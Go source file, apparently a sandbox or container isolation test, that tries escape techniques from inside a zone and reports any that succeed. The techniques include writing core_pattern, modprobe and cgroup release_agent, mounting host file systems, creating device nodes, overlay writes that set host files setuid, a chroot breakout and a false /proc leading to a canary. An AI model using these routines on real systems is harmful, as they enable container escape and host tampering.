package attack

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

// mine is the source of whatever the attacker mounts: it must be nowhere on the host.
const mine = "zone-attack"

// canary is what the false /proc leads to: who writes to it has been led.
const canary = "/var/tmp/canary"

// mounter is root of a zone that may mount, and a user namespace further in once more.
func mounter(sentinel, how string) error {
	at := "/mnt/" + how
	if err := os.MkdirAll(at, 0o755); err != nil {
		return err
	}
	if err := unix.Mount(mine, at, "tmpfs", 0, ""); err != nil {
		return fmt.Errorf("the attacker may not mount: %w", err)
	}
	foreignFileSystems(at)
	uncovered()
	settings(at)
	controlGroups(at)
	devices(at)
	overlaid(at)
	chrootEscape(at, sentinel)
	fmt.Println("attacked", how)
	if how != "nested" {
		cmd := exec.Command("/proc/self/exe", sentinel, "nested")
		cmd.Env = append(os.Environ(), roleVariable+"=mounter")
		cmd.SysProcAttr = &syscall.SysProcAttr{
			Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWPID,
			UidMappings: []syscall.SysProcIDMap{{HostID: 0, Size: 65536}}, GidMappings: []syscall.SysProcIDMap{{HostID: 0, Size: 65536}},
		}
		out, err := cmd.CombinedOutput()
		fmt.Print(string(out))
		return err
	}
	return nil
}

func place(at, name string) string {
	dir := filepath.Join(at, name)
	_ = os.MkdirAll(dir, 0o755)
	return dir
}

// foreignFileSystems are those that belong to the host, or read a device that could be crafted.
func foreignFileSystems(at string) {
	dir := place(at, "foreign")
	for _, kind := range []string{"devtmpfs", "debugfs", "tracefs", "securityfs", "configfs", "efivarfs", "pstore", "ext4", "xfs", "btrfs", "iso9660", "vfat", "squashfs", "hugetlbfs", "fusectl", "nfsd", "rpc_pipefs", "selinuxfs", "bpf"} {
		for _, source := range []string{"none", "/dev/vda", "/dev/sda", "/dev/loop0"} {
			if unix.Mount(source, dir, kind, 0, "") == nil {
				reach("a mount of %s from %s", kind, source)
				_ = unix.Unmount(dir, unix.MNT_DETACH)
			}
		}
	}
}

// uncovered tries to take away, or to make writable, what was mounted for the zone.
func uncovered() {
	// /usr/local is an empty file system of the zone's own.
	for _, p := range []string{"/usr", "/usr/lib/svc", "/lib/svc", "/"} {
		_ = unix.Mount("", p, "", unix.MS_REMOUNT|unix.MS_BIND, "")
		_ = unix.Mount("", p, "", unix.MS_REMOUNT, "")
		_ = unix.MountSetattr(unix.AT_FDCWD, p, unix.AT_RECURSIVE, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY | unix.MOUNT_ATTR_NODEV | unix.MOUNT_ATTR_NOSUID | unix.MOUNT_ATTR_NOEXEC})
		tree, err := unix.OpenTree(unix.AT_FDCWD, p, unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
		if err == nil {
			_ = unix.MountSetattr(tree, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY | unix.MOUNT_ATTR_NODEV})
			if p != "/" {
				writes(fmt.Sprintf("/proc/self/fd/%d/zone-was-here", tree), "a clone of "+p)
			}
			_ = unix.Close(tree)
		}
		if p != "/" {
			writes(p+"/zone-was-here", p)
		}
	}
	for _, p := range []string{"/usr", "/etc/mnttab", "/system/contract", "/proc/sys/kernel"} {
		if unix.Unmount(p, unix.MNT_DETACH) == nil {
			if _, err := os.Stat(p + "/ostype"); p != "/proc/sys/kernel" || err != nil {
				reach("%s can be unmounted", p)
			}
		}
	}
}

func writes(path, what string) {
	if f, err := os.Create(path); err == nil {
		f.Close()
		reach("a file in %s", what)
	}
}

// settings of the kernel, by a proc of the attacker's own, with no mask over it.
func settings(at string) {
	dir := place(at, "proc")
	if err := unix.Mount(mine, dir, "proc", 0, ""); err != nil {
		fmt.Println("no proc:", name(err))
		dir = "/proc"
	}
	for _, n := range []string{"sys/kernel/core_pattern", "sys/kernel/modprobe", "sys/kernel/sysrq", "sys/kernel/randomize_va_space", "sys/fs/suid_dumpable", "sys/fs/protected_symlinks",
		"sys/vm/overcommit_memory", "sys/vm/drop_caches", "sys/kernel/usermodehelper/bset", "sys/fs/binfmt_misc/register", "sysrq-trigger", "irq/0/smp_affinity", "mtrr", "acpi/wakeup"} {
		if fd, err := unix.Open(filepath.Join(dir, n), unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
			_ = unix.Close(fd)
			reach("%s can be written", n)
		}
	}
	for _, n := range []string{"kcore", "kmsg", "kpagecount"} {
		if fd, err := unix.Open(filepath.Join(dir, n), unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0); err == nil {
			if k, err := unix.Read(fd, make([]byte, 64)); err == nil && k > 0 {
				reach("%s can be read", n)
			}
			_ = unix.Close(fd)
		}
	}
}

// controlGroups mounts every hierarchy that there is.
func controlGroups(at string) {
	dir := place(at, "cgroup")
	for _, h := range []string{"pids", "memory", "cpu", "cpuset", "devices", "freezer", "blkio", "name=systemd", "none,name=mine", ""} {
		kind := "cgroup"
		if h == "" {
			kind = "cgroup2"
		}
		if unix.Mount(mine, dir, kind, 0, h) != nil {
			continue
		}
		if os.Mkdir(filepath.Join(dir, "zone-was-here"), 0o755) == nil {
			reach("a directory at the top of %s %s", kind, h)
		}
		for _, n := range []string{"release_agent", "notify_on_release", "cgroup.procs", "cgroup.kill", "cgroup.freeze", "devices.allow", "cgroup.subtree_control", "pids.max", "memory.max"} {
			if fd, err := unix.Open(filepath.Join(dir, n), unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
				_ = unix.Close(fd)
				reach("%s of %s %s can be written", n, kind, h)
			}
		}
		_ = unix.Unmount(dir, unix.MNT_DETACH)
	}
}

// devices made on a file system of the attacker's own, which says nothing against them.
func devices(at string) {
	for _, d := range [][2]uint32{{1, 1}, {1, 3}, {1, 11}, {10, 229}, {10, 200}, {5, 1}, {254, 0}, {8, 0}, {7, 0}} {
		for _, kind := range []uint32{unix.S_IFCHR, unix.S_IFBLK} {
			file := filepath.Join(at, fmt.Sprintf("device-%d-%d-%o", d[0], d[1], kind))
			if unix.Mknod(file, kind|0o666, int(unix.Mkdev(d[0], d[1]))) == nil {
				reach("a device %d:%d can be made", d[0], d[1])
			}
			if fd, err := unix.Open(file, unix.O_RDWR|unix.O_NONBLOCK|unix.O_CLOEXEC, 0); err == nil {
				_ = unix.Close(fd)
				reach("a device %d:%d opens", d[0], d[1])
			}
		}
	}
}

// overlaid lays the attacker's layer over the host's programs and writes through it: what happens
// below the layer, the hash of the host's files shows.
func overlaid(at string) {
	for _, lower := range []string{"/usr", "/usr/lib/svc", "/etc"} {
		dir, upper, work := place(at, "merged"), place(at, "upper"), place(at, "work")
		if err := unix.Mount(mine, dir, "overlay", 0, "lowerdir="+lower+",upperdir="+upper+",workdir="+work); err != nil {
			continue
		}
		writesOver(dir)
		_ = unix.Unmount(dir, unix.MNT_DETACH)
		_ = os.RemoveAll(upper)
		_ = os.RemoveAll(work)
	}
}

func writesOver(dir string) {
	_ = filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || strings.Count(strings.TrimPrefix(p, dir), "/") > 2 {
			return filepath.SkipDir
		}
		if d.Type().IsRegular() {
			if f, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0); err == nil {
				_, _ = f.WriteString("zone")
				f.Close()
			}
			_ = os.Chmod(p, 0o4777)
			return filepath.SkipDir
		}
		return nil
	})
}

// chrootEscape holds a directory, changes its root below it, and walks up from there.
func chrootEscape(at, sentinel string) {
	outside, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(outside)
	defer func() { // back, for what comes after
		_ = unix.Fchdir(outside)
		_ = unix.Chroot(".")
	}()
	if unix.Chroot(place(at, "jail")) != nil || unix.Fchdir(outside) != nil {
		return
	}
	for range 64 {
		_ = unix.Chdir("..")
	}
	if f, err := os.Open("." + sentinel); err == nil {
		f.Close()
		reach("a file of the host by chroot")
	}
}

// falseProc puts a /proc of the attacker's making in the place of the zone's: all that who enters
// writes there is a link.
func falseProc() error {
	if err := os.WriteFile(canary, []byte("canary\n"), 0o666); err != nil {
		return err
	}
	const at = "/mnt/false"
	if err := os.MkdirAll(at, 0o755); err != nil {
		return err
	}
	if err := unix.Mount(mine, at, "tmpfs", 0, ""); err != nil {
		return err
	}
	for _, dir := range []string{"self", "thread-self", "1", "self/task/1"} {
		for _, n := range []string{"attr/exec", "attr/current", "attr/apparmor/exec", "oom_score_adj", "uid_map", "gid_map", "setgroups", "loginuid", "timerslack_ns", "cgroup", "mountinfo", "status"} {
			p := filepath.Join(at, dir, n)
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				return err
			}
			if err := os.Symlink(canary, p); err != nil {
				return err
			}
		}
		_ = os.Symlink("/var/tmp", filepath.Join(at, dir, "fd"))
		_ = os.Symlink("/var/tmp/attacker", filepath.Join(at, dir, "exe"))
		_ = os.Symlink("/var/tmp", filepath.Join(at, dir, "ns"))
	}
	_ = os.MkdirAll(filepath.Join(at, "sys/kernel"), 0o755)
	_ = os.Symlink(canary, filepath.Join(at, "sys/kernel/core_pattern"))
	return unix.Mount(at, "/proc", "", unix.MS_MOVE, "")
}
